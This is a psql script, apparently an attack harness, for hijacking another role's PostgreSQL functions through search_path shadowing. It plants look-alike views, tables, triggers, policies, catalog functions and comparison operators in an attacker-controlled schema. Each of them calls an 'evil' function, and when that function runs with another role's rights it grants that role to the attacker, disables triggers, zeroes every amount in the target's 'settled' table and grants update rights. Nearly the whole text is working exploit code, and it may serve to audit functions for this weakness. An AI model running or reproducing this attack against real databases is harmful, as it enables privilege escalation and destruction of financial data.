-- What a role tries that wants a function of somebody else's to run its own code. psql variables: target, the schema
-- attacked; lair, a schema where the role may make things; only, the one relation that something stands in for, or
-- empty: for each; shape, of what stands in: view or table; temp: 1 where temporary ones can be made too.
\set QUIET on
\set ON_ERROR_STOP on
SET client_min_messages = error;
SELECT set_config('attack.target', :'target', false), set_config('attack.lair', :'lair', false),
       set_config('attack.only', :'only', false), set_config('attack.shape', :'shape', false),
       set_config('attack.temp', :'temp', false) \g /dev/null
SET search_path = :"lair";

-- A sequence keeps its value though the statement that moved it is undone.
CREATE SEQUENCE ran_as_another;
GRANT ALL ON ran_as_another TO PUBLIC;

-- Where it runs with other rights than the session's it says so, and does what they allow.
CREATE FUNCTION evil(lair name, target name, robber name) RETURNS boolean LANGUAGE plpgsql
SET search_path = pg_catalog, pg_temp AS $$
DECLARE
    act text;
BEGIN
    IF current_user = session_user THEN
        RETURN true;
    END IF;
    PERFORM nextval(format('%I.ran_as_another', lair));
    FOREACH act IN ARRAY ARRAY[
        format('GRANT %I TO %I', current_user, robber), format('ALTER TABLE %I.settled DISABLE TRIGGER USER', target),
        format('UPDATE %I.settled SET amount = 0', target),
        format('GRANT UPDATE ON %I.settled TO %I', target, robber)] LOOP
        BEGIN
            EXECUTE act;
        EXCEPTION WHEN OTHERS THEN
            CONTINUE;
        END;
    END LOOP;
    RETURN true;
END $$;

DO $do$
DECLARE
    lair constant name := current_setting('attack.lair');
    target constant name := current_setting('attack.target');
    evil constant text := format('%I.evil(%L, %L, %L)', lair, lair, target, session_user);
    places text[] := ARRAY[format('%I.', lair)];
    place text;
    r record;
BEGIN
    IF current_setting('attack.temp') = '1' THEN
        places := places || 'pg_temp.'::text;
    END IF;
    EXECUTE format('CREATE FUNCTION evil_trigger() RETURNS trigger LANGUAGE plpgsql'
                   ' AS $f$ BEGIN PERFORM %s; RETURN NEW; END $f$', evil);
    FOREACH place IN ARRAY places LOOP
        FOR r IN SELECT c.relname, string_agg(format('%I %s', a.attname, format_type(a.atttypid, a.atttypmod)), ', '
                                                  ORDER BY a.attnum) AS columns,
                        string_agg(format('CASE WHEN %s THEN NULL::%s END AS %I', evil,
                                          format_type(a.atttypid, a.atttypmod), a.attname), ', '
                                   ORDER BY a.attnum) AS columns_evil
                 FROM pg_class c JOIN pg_attribute a ON a.attrelid = c.oid AND a.attnum > 0 AND NOT a.attisdropped
                 WHERE c.relnamespace = target::regnamespace AND c.relkind IN ('r', 'p', 'v')
                     AND current_setting('attack.only') IN ('', c.relname) GROUP BY c.relname LOOP
            IF current_setting('attack.shape') = 'view' THEN
                EXECUTE format('CREATE VIEW %s%I AS SELECT %s WHERE %s', place, r.relname, r.columns_evil, evil);
                EXECUTE format('CREATE TRIGGER t INSTEAD OF INSERT OR UPDATE OR DELETE ON %s%I FOR EACH ROW'
                               ' EXECUTE FUNCTION evil_trigger()', place, r.relname);
            ELSE
                EXECUTE format('CREATE TABLE %s%I (%s, CHECK (%s))', place, r.relname, r.columns, evil);
                EXECUTE format('CREATE TRIGGER t BEFORE INSERT OR UPDATE OR DELETE ON %s%I FOR EACH STATEMENT'
                               ' EXECUTE FUNCTION evil_trigger()', place, r.relname);
                EXECUTE format('ALTER TABLE %1$s%2$I ENABLE ROW LEVEL SECURITY', place, r.relname);
                EXECUTE format('CREATE POLICY p ON %s%I USING (%s)', place, r.relname, evil);
            END IF;
            EXECUTE format('GRANT ALL ON %s%I TO PUBLIC', place, r.relname);
        END LOOP;
    END LOOP;
    IF current_setting('attack.only') <> '' THEN
        RETURN;
    END IF;
    -- Every function of the server that a function of the target's text names, and operators.
    FOR r IN SELECT p.proname, pg_get_function_identity_arguments(p.oid) AS arguments,
                    pg_get_function_result(p.oid) AS result
             FROM pg_proc p
             WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f'
                 AND NOT EXISTS (SELECT FROM pg_type t WHERE t.typtype = 'p'
                                 AND (t.oid = p.prorettype OR t.oid = ANY (p.proargtypes)))
                 AND EXISTS (SELECT FROM pg_proc f WHERE f.pronamespace = target::regnamespace
                             AND f.prosrc ~ ('\m' || p.proname || '\M')) LOOP
        EXECUTE format('CREATE FUNCTION %I(%s) RETURNS %s LANGUAGE plpgsql'
                       ' AS $f$ BEGIN PERFORM %s; RETURN NULL; END $f$', r.proname, r.arguments, r.result, evil);
    END LOOP;
    FOR r IN SELECT o.oprname, o.oprleft::regtype AS l, o.oprright::regtype AS r, o.oprresult::regtype AS result, o.oid
             FROM pg_operator o
             WHERE o.oprnamespace = 'pg_catalog'::regnamespace AND o.oprname IN ('=', '<', '>', '<=', '>=', '+', '||')
                 AND NOT EXISTS (SELECT FROM pg_type t WHERE t.typtype = 'p'
                                 AND t.oid IN (o.oprleft, o.oprright, o.oprresult))
                 AND o.oprleft IN ('int4'::regtype, 'int8'::regtype, 'text'::regtype, 'name'::regtype, 'oid'::regtype,
                                   'timestamp'::regtype, 'timestamptz'::regtype, 'bool'::regtype, 'bytea'::regtype) LOOP
        EXECUTE format('CREATE FUNCTION operator_%s(%s, %s) RETURNS %s LANGUAGE plpgsql'
                       ' AS $f$ BEGIN PERFORM %s; RETURN NULL; END $f$', r.oid, r.l, r.r, r.result, evil);
        EXECUTE format('CREATE OPERATOR %I.%s (FUNCTION = operator_%s, LEFTARG = %s, RIGHTARG = %s)', lair, r.oprname,
                       r.oid, r.l, r.r);
    END LOOP;
END $do$;
